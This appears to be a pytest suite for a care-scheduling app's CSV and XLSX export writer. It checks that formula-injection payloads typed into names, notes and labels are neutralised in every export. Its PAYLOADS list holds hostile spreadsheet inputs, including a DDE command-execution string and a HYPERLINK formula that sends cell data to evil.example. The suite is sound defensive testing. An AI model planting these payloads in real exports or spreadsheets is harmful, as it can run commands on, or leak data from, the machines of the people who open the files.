"""The one table writer: no cell of any export runs as a formula, whatever the delimiter a
spreadsheet splits the CSV on, and XLSX cells are typed."""

import csv
import io
import re
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from carecal import clock, db, tables
from carecal.billing import invoicing, records
from carecal.weeks import IsoWeek
from tests import factories as f

# The classic payloads: a formula after the `;` German Excel splits on, the four formula
# starts in ASCII and full width, tab and carriage return, a piece after `,`, a line break.
PAYLOADS = [
    "Spiel;=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    "+49 371 555",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    'Tee, =HYPERLINK("x")',
    "Kaffee\n=1+1",
    'Kuchen; "=2+2"',
    "Lesen\t@A1",
    " =1",
]
DELIMITERS = (",", ";", "\t")
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def dangerous_cells(text: str) -> list[str]:
    """Cells that would start a formula when the CSV text is split on any delimiter, by a
    proper CSV parser or by a naive split (as a spreadsheet with the wrong delimiter may)."""
    found = []
    for delimiter in DELIMITERS:
        parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        naive = [line.split(delimiter) for line in re.split(r"\r\n|\n|\r", text)]
        for row in parsed + naive:
            for cell in row:
                start = cell.lstrip(' "\u00a0\u3000')
                if start and start[0] in tables.FORMULA_TRIGGERS and not NUMBER.match(start):
                    found.append(cell)
    return found


# --- the guard itself --------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_payload_is_neutralised_and_restored(text):
    safe = tables.neutralise(text)
    assert safe != text and tables.would_run(text)
    assert dangerous_cells(tables.csv_text(text)) == []
    assert tables.restore(safe) == text


def test_the_semicolon_payload_gets_its_apostrophe_after_the_semicolon():
    assert tables.neutralise("Spiel;=cmd|' /C calc'!A0") == "Spiel;'=cmd|' /C calc'!A0"
    assert tables.neutralise("Olga Schmidt; Kaffee, Kuchen") == "Olga Schmidt; Kaffee, Kuchen"
    assert tables.neutralise("'=x") == "''=x"  # a typed apostrophe survives the round trip
    assert tables.restore("''=x") == "'=x"


@given(st.text(alphabet=st.sampled_from(list("ab '\";,=+-@\t\r\n＝－") + ["x"]), max_size=30))
def test_neutralise_is_safe_and_exactly_reversible(text):
    safe = tables.neutralise(text)
    assert tables.restore(safe) == text
    assert dangerous_cells(tables.csv_text(text)) == [] or NUMBER.match(text.strip())


def test_xlsx_text_escapes_control_characters_as_office_does():
    for text in ("\r=1", "a\x07b", "_x0041_ stays", "Tab\tand\nline"):
        assert tables.from_xlsx_text(tables.xlsx_text(text)) == text
    assert tables.xlsx_text("a\rb_x0041_") == "a_x000D_b_x005F_x0041_"


def test_csv_cells_of_other_types():
    row = [None, True, date(2026, 11, 3), time(14, 0), datetime(2026, 11, 3, 14, 0, 5), tables.money(3600), 120]
    assert [tables.csv_text(v) for v in row] == [
        "",
        "yes",
        "2026-11-03",
        "14:00",
        "2026-11-03 14:00:05",
        "36.00",
        "120",
    ]
    with pytest.raises(ValueError, match="local"):
        tables.csv_text(datetime(2026, 11, 3, 14, 0, tzinfo=UTC))


def test_xlsx_cells_are_typed_with_a_frozen_header_and_widths(tmp_path):
    path = tmp_path / "t.xlsx"
    rows = [
        [date(2026, 11, 3), time(14, 0), 120, tables.money(3650), Decimal("0.512"), "=1+1", "Olga"],
        [None, None, None, None, None, "Spiel;=cmd|' /C calc'!A0", "x" * 200],
    ]
    header = ["date", "start", "minutes", "amount_eur", "share", "activity", "name"]
    assert tables.write_table(path, header, rows, "xlsx", title="hours: 2026/11") == 2
    sheet = load_workbook(path).active
    assert sheet.title == "hours  2026 11" and sheet.freeze_panes == "A2"
    day, start, minutes, amount, share, formula, name = sheet[2]
    assert isinstance(day.value, datetime) and day.is_date and day.number_format == tables.DATE_FORMAT
    assert start.value == time(14, 0) and start.number_format == tables.TIME_FORMAT
    assert (minutes.value, minutes.data_type) == (120, "n")
    assert (amount.value, amount.data_type, amount.number_format) == (36.5, "n", tables.MONEY_FORMAT)
    assert (share.value, share.number_format) == (0.512, "0.000")
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=1+1", "s", True)
    assert not name.quotePrefix
    assert sheet["F3"].data_type == "s" and sheet["F3"].quotePrefix
    widths = {col: sheet.column_dimensions[col].width for col in "ABCFG"}
    assert widths["A"] >= len("DD.MM.YYYY") and widths["G"] == 60 and widths["C"] < widths["F"]


# --- every export, read back ----------------------------------------------------------------------

AFTER = datetime(2026, 12, 15, tzinfo=UTC)


@pytest.fixture
def hostile(db_url, cli):
    """November 2026 with a payload in every free-text field a person types: names,
    catalogue labels, notes, reasons; recorded (the first as the coordinator would, on the command
    line), billed."""
    with db.session_scope(db_url) as s:
        org = f.organisation(s)
        f.billing_rates(s, org)
        visits = []
        for n, payload in enumerate(PAYLOADS):
            home = {"lat": 50.8322, "lon": 12.9352}  # a home within reach that XLSX writes exactly
            volunteer = f.volunteer(s, first_name=payload, last_name="Wolkowa", **home)
            client = f.client(s, first_name="Olga", last_name=payload, benefits_assigned_on=date(2026, 1, 1), **home)
            # a catalogue label is text the office writes; the request's note too
            label = f.activity(s, f"payload_{n}", {"de": payload})
            request = f.care_request(s, client, activity_key=label.key, note=payload)
            week = f"2026-W{45 + n % 2}"
            visits.append(f.published_visit(s, week, request, volunteer, day=("tue", "wed", "thu")[n % 3]))
        ids = [v.id for v in visits]
    result = cli(
        "visit", "record", str(ids[0]), "--status", "delivered", "--activity", "payload_0",
        "--note", PAYLOADS[0], "--reason", PAYLOADS[0],
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    with db.session_scope(db_url) as s, clock.frozen(AFTER):
        for n, (visit_id, payload) in enumerate(zip(ids, PAYLOADS, strict=True)):
            if n % 2:
                records.record_visit(
                    s,
                    visit_id,
                    payload,
                    status="delivered",
                    activity=f"payload_{n}",
                    note=payload,
                    signature="none",
                    signature_reason=payload,
                )
        for week in ("2026-W45", "2026-W46"):
            records.confirm_week(s, IsoWeek.parse(week), "anna")
        invoicing.run_month(s, "2026-11", "treasurer", issued_on=date(2026, 12, 1))
    return ids


EXPORTS = [
    ("hours", "--month", "2026-11"),
    ("allowances", "--year", "2026"),
    ("audit-log",),
    ("volunteers",),
    ("clients",),
    ("requests",),
]


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e[0])
def test_every_export_is_inert_in_csv_whatever_the_delimiter_and_typed_text_in_xlsx(cli, hostile, tmp_path, export):
    name, *options = export
    csv_path, xlsx_path = tmp_path / f"{name}.csv", tmp_path / f"{name}.xlsx"
    for path in (csv_path, xlsx_path):
        result = cli("export", name, *options, "-o", path, *(("--format", "xlsx") if path == xlsx_path else ()))
        assert result.exit_code == 0, result.stderr

    text = csv_path.open(encoding="utf-8", newline="").read()
    assert any(p.split(";")[-1] in text for p in PAYLOADS if ";" in p), "the payloads are in the export"
    assert dangerous_cells(text) == []

    sheet = load_workbook(xlsx_path).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" for cell in texts)
    assert all(cell.quotePrefix for cell in texts if tables.would_run(cell.value))
    assert sum(1 for cell in texts if tables.would_run(cell.value)) >= 3


def test_the_roster_as_csv_is_inert_too(cli, hostile):
    result = cli("roster", "show", "--week", "2026-W45", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    assert "Spiel;'=cmd" in result.stdout or "'=HYPERLINK" in result.stdout
    assert dangerous_cells(result.stdout) == []


def test_hours_export_carries_the_payloads_as_text(cli, hostile, tmp_path):
    assert cli("export", "hours", "--month", "2026-11", "-o", tmp_path / "h.csv").exit_code == 0
    rows = list(csv.DictReader((tmp_path / "h.csv").open(encoding="utf-8", newline="")))
    shown = {tables.restore(row["activity"]) for row in rows}
    assert set(PAYLOADS) <= shown
    assert cli("export", "hours", "--month", "2026-11", "--format", "xlsx", "-o", tmp_path / "h.xlsx").exit_code == 0
    sheet = load_workbook(tmp_path / "h.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("activity")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert set(PAYLOADS) <= {tables.from_xlsx_text(text) for text in cells}  # the text exactly, typed as text
    assert "_x000D_=1+1" in cells  # a carriage return escaped as Office writes it


def test_master_data_exports_import_back_unchanged(cli, hostile, tmp_path):
    # the import strips a cell's outer spaces, tabs and line breaks, as a coordinator expects
    stripped = sum(1 for p in PAYLOADS if p != p.strip())
    for kind in ("clients", "volunteers", "requests"):
        for suffix in ("csv", "xlsx"):
            path = tmp_path / f"{kind}.{suffix}"
            assert cli("export", kind, "-o", path).exit_code == 0
            result = cli("import", kind, path, "--dry-run")
            assert result.exit_code == 0, result.stderr
            counts = f"0 would be created, {stripped} would be updated, {len(PAYLOADS) - stripped} unchanged"
            assert counts in result.stdout


def test_the_hours_xlsx_has_typed_cells(cli, hostile, tmp_path):
    path = tmp_path / "h.xlsx"
    assert cli("export", "hours", "--month", "2026-11", "--format", "xlsx", "-o", path).exit_code == 0
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width >= tables._MIN_WIDTH
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["date"].is_date and row["date"].number_format == tables.DATE_FORMAT
    assert row["start"].value == time(14, 0) and row["start"].number_format == tables.TIME_FORMAT
    assert (row["minutes"].data_type, row["minutes"].value) == ("n", 120)
    for money in ("unit_price_eur", "amount_eur"):
        assert row[money].data_type == "n" and row[money].number_format == tables.MONEY_FORMAT
    assert row["created_at"].is_date and row["created_at"].number_format == tables.DATETIME_FORMAT
